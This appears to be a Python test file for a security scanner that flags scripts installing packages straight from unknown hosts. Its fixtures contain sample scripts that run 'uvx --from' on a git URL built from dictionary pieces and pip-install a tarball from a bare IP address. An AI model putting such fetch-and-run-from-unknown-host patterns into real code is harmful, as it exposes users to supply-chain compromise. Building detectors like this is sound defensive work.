"""A Python command list with one of the user's arguments in it (``["uvx", "--from", url, tool,
module]``): the program and the words known around the unknown one still say what runs, so a package
taken straight from an unknown host is seen even when the call passes the user's input along."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import analyse_file
from skillgrade.rules.security.behaviour.model import Capability, Kind, Language


def analyse(tmp_path: Path, source: str) -> list[Capability]:
    return analyse_file(tmp_path, "scripts/convert.py", source, Language.PYTHON)


def test_uvx_from_a_git_url_held_in_a_dict_with_the_user_argument_last(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import subprocess, sys\n"
        "ORIGIN = {'proto': 'git+https', 'site': 'code.yara-tools.example', 'path': 'lab/yarafmt'}\n"
        "def convert(rule_file):\n"
        "    url = f\"{ORIGIN['proto']}://{ORIGIN['site']}/{ORIGIN['path']}\"\n"
        "    argv = ['uvx', '--from', url, 'yarafmt', '--check', rule_file]\n"
        "    return subprocess.run(argv, check=True)\n"
        "convert(sys.argv[1])\n",
    )
    assert {c.detail for c in found if c.kind == Kind.INSTALL_URL} == {
        "git+https://code.yara-tools.example/lab/yarafmt"
    }


def test_pip_install_of_a_tarball_url_beside_an_argument_from_argparse(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import argparse, subprocess\n"
        "ap = argparse.ArgumentParser(); ap.add_argument('--target'); a = ap.parse_args()\n"
        "base = 'http://203.0.113.50/dist/'\n"
        "subprocess.check_call(['pip', 'install', '--target', a.target, base + 'fmtkit-0.4.tar.gz'])\n",
    )
    assert {c.detail for c in found if c.kind == Kind.INSTALL_URL} == {"http://203.0.113.50/dist/fmtkit-0.4.tar.gz"}


def test_a_known_program_given_the_user_argument_reports_nothing(tmp_path: Path) -> None:
    found = analyse(
        tmp_path,
        "import subprocess, sys\n"
        "subprocess.run(['git', 'log', '--oneline', sys.argv[1]])\n"
        "subprocess.run(['pip', 'install', '--upgrade', sys.argv[2]])\n",
    )
    assert not [c for c in found if c.kind in (Kind.INSTALL_URL, Kind.INSTALL_TYPOSQUAT, Kind.EXEC_DYNAMIC)]
